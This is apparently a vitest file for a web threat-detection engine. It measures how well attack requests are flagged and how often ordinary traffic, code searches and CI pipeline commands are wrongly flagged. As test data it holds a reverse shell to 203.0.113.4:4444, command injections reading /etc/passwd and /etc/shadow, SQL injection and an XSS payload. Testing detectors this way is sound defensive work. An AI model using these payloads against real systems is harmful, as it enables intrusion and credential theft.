/**
 * Attacks and ordinary traffic in numbers. The values are written from what is known of each family of attack, and from what
 * people and programs send: code in questions, quotes, names, prices, queries of public APIs.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { rank } from '../../../server/engine/threat/answer/score.ts';
import { createRandom } from '../../support/logs/random.ts';
import { shopRequest } from '../../support/logs/shop.ts';
import { detectWeb, readEvents } from '../../support/threat-engine.ts';
import { groupedRequests } from '../../support/web-requests.ts';

const lines = (name: string) =>
  readFileSync(new URL(`../../fixtures/threat/${name}.txt`, import.meta.url), 'utf8')
    .split('\n')
    .filter((line) => line !== '' && !/^#[a-z]{3,6}$/u.test(line));

const isFlagged = (text: string) =>
  readEvents(text)
    .flatMap(detectWeb)
    .some(({ level }) => rank(level) >= rank('medium'));

const isEncoded = (value: string) => /%[0-9a-f]{2}/iu.test(value);
const inQuery = (value: string) =>
  `GET /page.jsp?name=${isEncoded(value) ? value.replace(/ /gu, '+').replace(/#/gu, '%23') : encodeURIComponent(value)}&b=2 HTTP/1.1`;
const request = (target: string) =>
  `GET ${target} HTTP/1.1\nHost: www.example.com\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0\nAccept: */*\n\n`;

test.each([
  ['attack-values', inQuery, 0.03],
  ['attack-targets', request, 0.11],
] as const)('%s are found', (name, toText, most) => {
  const missed = lines(name).filter((line) => !isFlagged(toText(line)));
  expect(missed.length / lines(name).length).toBeLessThan(most);
});

// Among the targets are searches for command lines and code, which nothing tells from what they quote.
test.each([
  ['ordinary-values', inQuery, 0.03],
  ['ordinary-targets', request, 0.08],
] as const)('%s are left alone', (name, toText, most) => {
  const flagged = lines(name).filter((line) => isFlagged(toText(line)));
  expect(flagged.length / lines(name).length).toBeLessThan(most);
});

function flaggedShare(
  name: 'attack-requests' | 'ordinary-requests',
  isCounted: (group: string) => boolean,
): number {
  const requests = [...groupedRequests(name)].filter(([group]) => isCounted(group));
  return requests.filter(([, text]) => isFlagged(text)).length / requests.length;
}

test('attacks of every class are found', () => {
  expect(flaggedShare('attack-requests', () => true)).toBeGreaterThan(0.97);
});

test('ordinary requests are left alone, and most searches for code', () => {
  expect(flaggedShare('ordinary-requests', (group) => group !== 'code-search')).toBeLessThan(0.03);
  expect(flaggedShare('ordinary-requests', (group) => group === 'code-search')).toBeLessThan(0.22);
});

test('code that somebody writes about counts for little, an attack in the same place as ever', () => {
  const level = (name: string, value: string) =>
    readEvents(`GET /p?${name}=${encodeURIComponent(value)}&lang=en HTTP/1.1`)
      .flatMap(detectWeb)
      .reduce((most, { level: found }) => Math.max(most, rank(found)), -1);
  expect(level('q', 'npm install && npm run build')).toBe(rank('low'));
  expect(level('host', 'npm install && npm run build')).toBeGreaterThan(rank('low'));
  expect(level('q', 'x; cat /etc/passwd')).toBeGreaterThan(rank('low'));
  expect(level('query', "' or 1=1--")).toBeGreaterThan(rank('low'));
  expect(level('query', '<svg onload=alert(1)>')).toBeGreaterThan(rank('low'));
});

describe('steps of a pipeline', () => {
  const post = (type: string, body: string) =>
    isFlagged(`POST /api/pipelines HTTP/1.1\nHost: ci.example\nContent-Type: ${type}\n\n${body}`);
  const json = (value: unknown) => post('application/json', JSON.stringify(value));
  const jenkins = (command: string, indent = '') =>
    post(
      'text/xml',
      [
        '<project><builders><hudson.tasks.Shell>',
        `<command>${command}</command>`,
        '</hudson.tasks.Shell></builders></project>',
      ].join(indent),
    );
  const run = 'rm -rf dist; mkdir dist && cat report.xml | tee build.log';

  test('hold commands as a matter of course', () => {
    expect(json({ jobs: { build: { steps: [{ run }] } } })).toBe(false);
    expect(json({ steps: [{ run: { command: run } }] })).toBe(false);
    expect(json({ stages: ['test'], jobs: { test: { script: [run] } } })).toBe(false);
    const command = 'cd app; npm ci &amp;&amp; npm test | tee out.log; cat report.xml';
    expect(jenkins(command)).toBe(false);
    expect(jenkins(command, '\n  ')).toBe(false);
  });

  test('are no place to hide a shell, and a command elsewhere is one as ever', () => {
    expect(json({ steps: [{ run: 'bash -i >& /dev/tcp/203.0.113.4/4444 0>&1' }] })).toBe(true);
    expect(json({ steps: [{ run: '8.8.8.8; cat /etc/passwd' }] })).toBe(true);
    expect(jenkins('id; cat /etc/shadow')).toBe(true);
    expect(json({ run })).toBe(true);
  });
});

test('a search engine that links here quotes no attack', () => {
  const request = (referer: string) => `GET / HTTP/1.1\nHost: a.example\nReferer: ${referer}\n\n`;
  expect(isFlagged(request('https://search.example/?q=select+from+where&oq=select'))).toBe(false);
  expect(isFlagged(request("https://a.example/?q=1'+union+select+1,2--&b=1"))).toBe(true);
});

test('letters of Latin-1, session cookies and old headers are no attack', () => {
  const random = createRandom(5);
  const flagged = Array.from({ length: 300 }, () => shopRequest(random)).filter(isFlagged);
  expect(flagged).toEqual([]);
});
